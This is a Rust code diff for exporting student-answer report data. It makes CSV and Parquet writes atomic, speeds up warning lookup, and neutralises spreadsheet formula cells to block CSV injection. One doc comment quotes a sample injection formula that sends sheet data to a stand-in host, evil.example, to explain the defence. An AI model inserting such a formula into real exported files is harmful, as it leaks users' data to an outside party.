@@ -215,15 +215,19 @@ fn answers_frame(records: &[ReportRecord<'_>]) -> PolarsResult<DataFrame> {
     let mut markdown = Vec::new();
     for r in records {
         let answers = &r.report.answers;
+        // The warnings with a line, by line: each answer takes the run between its line and the next answer's
+        // (a scan of all warnings per answer is quadratic: 400,000 bare headings took minutes).
+        let mut by_line: Vec<(usize, usize)> =
+            r.report.warnings.iter().enumerate().filter_map(|(i, w)| w.line.map(|l| (l, i))).collect();
+        by_line.sort_unstable();
         for (k, a) in answers.iter().enumerate() {
             let next_line = answers.get(k + 1).map_or(usize::MAX, |n| n.line);
-            let own: Vec<String> = r
-                .report
-                .warnings
-                .iter()
-                .filter(|w| w.line.is_some_and(|l| l >= a.line && l < next_line))
-                .map(|w| w.to_string())
-                .collect();
+            let from = by_line.partition_point(|&(l, _)| l < a.line);
+            let to = from + by_line[from..].partition_point(|&(l, _)| l < next_line);
+            // In the report's own order, as before.
+            let mut mine: Vec<usize> = by_line[from..to].iter().map(|&(_, i)| i).collect();
+            mine.sort_unstable();
+            let own: Vec<String> = mine.iter().map(|&i| r.report.warnings[i].to_string()).collect();
             id.push(r.id);
             cohort.push(r.cohort);
             group.push(r.report.facts.group);
@@ -279,16 +283,58 @@ pub fn write(generation: &Generation, frames: &mut Frames) -> Result<()> {
 }
 
 pub fn write_parquet(path: &Path, df: &mut DataFrame) -> Result<()> {
-    let mut file = File::create(path).map_err(io_err(path))?;
-    ParquetWriter::new(&mut file).finish(df).map_err(perr(path))?;
-    file.sync_all().map_err(io_err(path))?;
+    write_whole(path, |file| ParquetWriter::new(file).finish(df).map(|_| ()))
+}
+
+/// Writes a file so that it is whole or absent: into a temporary file beside it, renamed over it only when
+/// everything is written. A full disk or a killed process leaves the previous file (or none), never a truncated
+/// one that a notebook or spreadsheet would read as data.
+fn write_whole(path: &Path, write: impl FnOnce(&mut File) -> PolarsResult<()>) -> Result<()> {
+    let dir = match path.parent() {
+        Some(d) if !d.as_os_str().is_empty() => d,
+        _ => Path::new("."),
+    };
+    let mut tmp = tempfile::NamedTempFile::new_in(dir).map_err(io_err(dir))?;
+    write(tmp.as_file_mut()).map_err(perr(path))?;
+    tmp.as_file().sync_all().map_err(io_err(path))?;
+    tmp.persist(path).map_err(|e| StoreError::Io { path: path.to_path_buf(), source: e.error })?;
     Ok(())
 }
 
+/// Writes a frame as CSV to a file (see [`write_csv_to`]).
 pub fn write_csv(path: &Path, df: &mut DataFrame) -> Result<()> {
-    let mut file = File::create(path).map_err(io_err(path))?;
-    CsvWriter::new(&mut file).include_header(true).finish(df).map_err(perr(path))?;
-    Ok(())
+    write_whole(path, |file| {
+        let mut out = std::io::BufWriter::new(file);
+        write_csv_to(&mut out, df)?;
+        std::io::Write::flush(&mut out).map_err(PolarsError::from)
+    })
+}
+
+/// Writes a frame as CSV with a header line: every CSV cohort writes goes through here. Text cells that a
+/// spreadsheet would run as a formula are made inert (see [`spreadsheet_safe`]); Parquet keeps the text exact.
+pub fn write_csv_to(out: &mut impl std::io::Write, df: &DataFrame) -> PolarsResult<()> {
+    let mut cols = Vec::with_capacity(df.width());
+    for c in df.columns() {
+        if c.dtype() == &DataType::String {
+            let safe: StringChunked = c.str()?.iter().map(|v| v.map(spreadsheet_safe)).collect();
+            cols.push(safe.with_name(c.name().clone()).into_column());
+        } else {
+            cols.push(c.clone());
+        }
+    }
+    let mut safe = DataFrame::new(df.height(), cols)?;
+    CsvWriter::new(out).include_header(true).finish(&mut safe)
+}
+
+/// A text cell as a spreadsheet may show it: one starting with `=`, `+`, `-`, `@`, a tab or a carriage return
+/// would be run as a formula (a student's answer `=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet
+/// away), so it gets a leading `'` (OWASP's rule for CSV injection).
+pub fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
 }
 
 /// Reads one frame of a generation.
